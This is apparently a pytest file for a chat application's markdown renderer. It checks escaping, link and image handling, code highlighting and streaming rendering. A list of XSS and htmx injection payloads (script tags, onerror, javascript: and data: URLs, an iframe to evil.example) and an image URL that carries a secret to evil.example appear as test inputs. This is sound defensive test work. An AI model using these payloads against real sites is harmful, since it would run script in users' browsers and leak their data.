from html.parser import HTMLParser

import pytest

from chat.rendering import render_markdown


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    return parser.elements


XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="#" hx-get="/api/chat/session/x" hx-trigger="load">x</a>',
    '<div data-hx-post="/logout" hx-on:click="alert(1)">x</div>',
    '<svg onload="alert(1)"></svg>',
    '<iframe src="https://evil.example"></iframe>',
    "<style>body{display:none}</style>",
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_untrusted_markdown_cannot_script_or_drive_htmx(payload):
    html = render_markdown(payload)
    for tag, attrs in elements(html):
        assert tag not in {"script", "iframe", "svg", "style", "object", "embed", "form"}, html
        for name, value in attrs.items():
            assert not name.startswith(("on", "hx-", "data-hx", "data-")), html
            if name in {"href", "src"}:
                assert (value or "").startswith(("https:", "http:", "mailto:", "/", "#")), html


def test_raw_html_is_shown_as_text_not_markup():
    assert render_markdown("<b>bold</b>") == "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n"


def test_external_images_become_links_that_load_nothing():
    html = render_markdown("![secret](https://evil.example/?q=secret)")
    assert "<img" not in html
    assert '<a href="https://evil.example/?q=secret" rel="noopener noreferrer nofollow">' in html


def test_local_images_stay_images():
    html = render_markdown("![chart](/attachments/abc/download)")
    assert '<img src="/attachments/abc/download" alt="chart">' in html
    assert "<img" not in render_markdown("![x](//evil.example/a.png)")


def test_links_get_safe_rel_and_markdown_features_render():
    html = render_markdown(
        "**bold** [site](https://example.com)\n\n| a | b |\n|---|--:|\n| 1 | 2 |"
    )
    assert "<strong>bold</strong>" in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert "<table>" in html and '<td style="text-align:right">2</td>' in html


def test_code_blocks_are_highlighted_and_escaped():
    html = render_markdown("```python\nprint('<hi>')\n```")
    assert '<pre class="hl"><code class="language-python">' in html
    assert "&lt;hi&gt;" in html and "<hi>" not in html
    assert '<span class="nb">print</span>' in html


def test_unknown_language_code_block_is_plain_escaped_code():
    html = render_markdown("```nosuchlang\n<b>x</b>\n```")
    assert "&lt;b&gt;x&lt;/b&gt;" in html


STREAMED_DOCUMENTS = [
    "# Title\n\nPara with **bold** and `code`.\n\n- a\n- b\n\n1. one\n2. two\n\nEnd.",
    "```python\ndef f():\n\n    return '<b>'\n```\n\nAfter the fence.\n\n~~~\nraw\n\n~~~\n",
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote\n\n<script>alert(1)</script>\n\nok",
    "no blank lines at all, just one long growing paragraph " * 5,
]


@pytest.mark.parametrize("document", STREAMED_DOCUMENTS)
def test_streaming_renderer_matches_a_full_render_at_every_step(document):
    from chat.rendering import StreamingMarkdown

    renderer = StreamingMarkdown()
    for end in range(1, len(document) + 1, 7):
        partial = document[:end]
        assert renderer.render(partial) == render_markdown(partial), partial
    assert renderer.render(document) == render_markdown(document)


def test_streaming_renderer_starts_over_for_a_different_text():
    from chat.rendering import StreamingMarkdown

    renderer = StreamingMarkdown()
    renderer.render("first paragraph\n\nsecond paragraph\n\nthird")
    assert renderer.render("new") == render_markdown("new")
